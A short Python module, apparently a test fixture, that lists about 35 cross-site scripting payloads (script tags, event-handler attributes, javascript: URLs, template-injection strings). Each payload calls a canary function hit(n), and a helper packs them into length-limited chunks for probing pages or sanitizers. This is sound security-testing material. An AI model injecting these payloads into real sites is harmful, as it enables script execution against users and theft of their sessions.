"""Texts that try to be programs: each would call hit(its number) in a page that lets it."""

PATTERNS = (
    '<script>hit({n})</script>', '<ScRiPt>hit({n})</sCrIpT>', '"><script>hit({n})</script>',
    "'><script>hit({n})</script>", '</title><script>hit({n})</script>', '</textarea><script>hit({n})</script>',
    '</script><script>hit({n})</script>', '<script src="data:,hit({n})"></script>', '<img src=x onerror=hit({n})>',
    '"><img src=x onerror=hit({n})>', "'><img src=x onerror=hit({n})>", '<img src=x onerror="hit({n})"//',
    '<svg onload=hit({n})>', '<svg><script>hit({n})</script></svg>', '<svg><animate onbegin=hit({n}) attributeName=x>',
    '<body onload=hit({n})>', '<iframe src="javascript:parent.hit({n})">',
    "<iframe srcdoc='<script>parent.hit({n})</script>'>", '<details open ontoggle=hit({n})>',
    '<input autofocus onfocus=hit({n})>', '<video><source onerror=hit({n})>', '<audio src=x onerror=hit({n})>',
    '<object data="javascript:parent.hit({n})">', '<embed src="javascript:parent.hit({n})">',
    '<a href="javascript:hit({n})">x</a>', '<math><mtext><img src=x onerror=hit({n})>',
    '<meta http-equiv=refresh content="0;javascript:hit({n})">', '<base href="javascript:/a/">',
    '" autofocus onfocus=hit({n}) x="', "' autofocus onfocus=hit({n}) x='",
    '{{{{constructor.constructor("hit({n})")()}}}}',
    '{{{{$el.ownerDocument.defaultView.hit({n})}}}}', '${{hit({n})}}', 'javascript:hit({n})',
    '<template><img src=x onerror=hit({n})></template><img src=x onerror=hit({n})>',
)  # fmt: skip
PAYLOADS = tuple(pattern.format(n=number) for number, pattern in enumerate(PATTERNS))


def chunks(longest: int) -> list[str]:
    """All of them, several a text of at most so many characters."""
    texts = ['']
    for payload in PAYLOADS:
        joined = f'{texts[-1]} {payload}'.strip()
        if len(joined) <= longest:
            texts[-1] = joined
        else:
            texts.append(payload)
    return texts
